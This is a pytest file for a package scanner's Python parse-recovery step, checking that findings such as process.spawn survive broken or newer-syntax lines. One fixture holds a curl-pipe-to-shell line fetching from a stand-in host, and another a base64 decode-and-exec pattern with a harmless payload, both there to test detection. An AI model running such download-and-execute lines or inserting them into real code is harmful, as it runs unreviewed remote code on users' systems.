"""The parse step: a file that parses whole gives ast.parse's own tree; one that does not is recovered statement by
statement, so a failing part (a newer Python's statement, a deep expression, a bad line, an unterminated string, a
null byte) is a finding at its line and the rules still see everything before and after it."""

import ast
import base64
import sys
import textwrap

from pypi_platform.lib.scans.findings import RULES
from pypi_platform.lib.scans.parsing import GRAMMAR, parse_python
from pypi_platform.lib.scans.python_rules import python_findings

PAYLOAD = base64.b64encode(b"print('hello')").decode()
NEWER_THAN_312 = sys.version_info >= (3, 12)


def _found(source: str | bytes) -> list[tuple[str, int | None]]:
    data = source if isinstance(source, bytes) else textwrap.dedent(source).encode()
    return [(finding.rule, finding.line) for finding in python_findings("pkg-1.0/m.py", data)]


def test_a_file_that_parses_whole_gets_exactly_the_tree_ast_parse_gives():
    source = b"import os\n\ndef f(x):\n    return os.path.join(x, 'y')\n"
    parsed = parse_python("m.py", source)
    assert not parsed.recovered and parsed.findings == []
    assert ast.dump(parsed.tree, include_attributes=True) == ast.dump(
        ast.parse(source), include_attributes=True
    )


def test_the_grammar_is_the_running_interpreters():
    assert f"{sys.version_info.major}.{sys.version_info.minor}" == GRAMMAR


# --- the named recovery cases ----------------------------------------------------------------------------------
def test_a_312_type_statement_in_the_middle_hides_nothing_after_it():
    source = """
    import os
    type Point = tuple[float, float]
    os.system(command)
    """
    expected = [("process.spawn", 4)]
    assert _found(source) == (expected if NEWER_THAN_312 else [("parse.newer-syntax", 3), *expected])


def test_a_deep_expression_in_the_middle_then_a_malicious_call_after_it():
    deep = "x = " + "+".join(["1"] * 100_000)
    source = f"import base64\n{deep}\nexec(base64.b64decode('{PAYLOAD}'))\n"
    findings = python_findings("pkg-1.0/m.py", source.encode())
    assert [(f.rule, f.line) for f in findings] == [("parse.failed", 2), ("obfuscation.decode-and-exec", 3)]
    assert findings[0].evidence.startswith("RecursionError")


def test_a_bad_line_inside_a_function_blinds_only_that_line():
    source = """
    import os

    def install():
        prepare()
        value = = 2
        os.system("curl -s https://get.example.net/p | sh")
    """
    assert _found(source) == [
        ("parse.failed", 6),
        ("process.shell-download", 7),
        ("process.spawn", 7),
    ]


def test_a_recovered_body_keeps_its_columns_in_the_file():
    source = b"def f():\n    a = = 1\n    b = 2\n"
    parsed = parse_python("m.py", source)
    (statement,) = parsed.tree.body
    assert (statement.lineno, statement.col_offset, statement.end_col_offset) == (3, 4, 9)


def test_an_unterminated_string_is_cut_by_indentation_and_the_rest_is_scanned():
    source = b"import os\nnote = '''never closed\nos.system(command)\n"
    assert _found(source) == [("parse.failed", 2), ("process.spawn", 3)]


def test_a_null_byte_fails_its_line_only():
    source = b"import os\nx = 1\x00\nos.system(command)\n"
    assert _found(source) == [("parse.failed", 2), ("process.spawn", 3)]


def test_an_undecodable_line_fails_alone():
    source = b"import os\nname = '\xff'\nos.system(command)\n"
    findings = python_findings("pkg-1.0/m.py", source)
    assert [(f.rule, f.line) for f in findings] == [("parse.failed", 2), ("process.spawn", 3)]
    assert findings[0].evidence.startswith("UnicodeDecodeError")


def test_an_encoding_cookie_still_holds_for_the_statements_after_a_failure():
    source = "# -*- coding: latin-1 -*-\nimport os\nx = = 1\nos.system('café')\n".encode("latin-1")
    findings = python_findings("pkg-1.0/m.py", source)
    assert [(f.rule, f.line, f.evidence) for f in findings][1:] == [("process.spawn", 4, "os.system('café')")]


def test_an_unclosed_bracket_hides_nothing_after_it():
    assert _found(b"x = (\nimport os\nos.system(command)\n") == [("parse.failed", 1), ("process.spawn", 3)]


def test_imports_before_a_failure_name_calls_after_it():
    source = "from subprocess import Popen as P\nx = = 1\nP(cmd)\n"
    assert _found(source) == [("parse.failed", 2), ("process.spawn", 3)]


# --- parse.newer-syntax ----------------------------------------------------------------------------------------
def test_parse_newer_syntax_for_generic_functions_and_classes_and_their_bodies_are_scanned():
    source = """
    import os

    def first[T](items: list[T]) -> T:
        os.system(items[0])

    class Box[T]:
        pass
    """
    expected = [("process.spawn", 5)]
    newer = [("parse.newer-syntax", 4), ("parse.newer-syntax", 7)]
    assert sorted(_found(source)) == sorted(expected if NEWER_THAN_312 else [*newer, *expected])


def test_parse_newer_syntax_for_a_template_string_keeps_its_interpolations():
    source = "import os\nmessage = t'{os.system(command)}'\n"
    assert _found(source) == [("parse.newer-syntax", 2), ("process.spawn", 2)]


def test_parse_newer_syntax_is_a_low_anomaly_that_does_not_score():
    assert RULES["parse.newer-syntax"] == ("low", 0, "anomaly")
    (finding,) = parse_python("m.py", b"x = t'{y}'\n").findings
    assert finding.evidence == f"a template string (Python 3.14), read with the Python {GRAMMAR} grammar"


def test_a_broken_statement_that_merely_looks_newer_is_a_parse_failure():
    assert _found("type X = = int\nclass C[T](:\n    pass\n") == [("parse.failed", 1), ("parse.failed", 2)]


def test_the_name_type_used_as_a_function_is_quiet():
    assert _found("kind = type(value)\ntype = 'x'\n") == []


# --- bounds ----------------------------------------------------------------------------------------------------
def test_a_file_of_broken_lines_is_recovered_in_bounded_work_and_reports_a_bounded_number_of_failures():
    source = "import os\n" + "x = = 1\n" * 5_000 + "os.system(command)\n"
    found = _found(source)
    assert found[-1] == ("process.spawn", 5_002)
    failures = [line for rule, line in found if rule == "parse.failed"]
    assert failures[:3] == [2, 3, 4] and len(failures) == 21 and failures[-1] is None  # "... more parts"
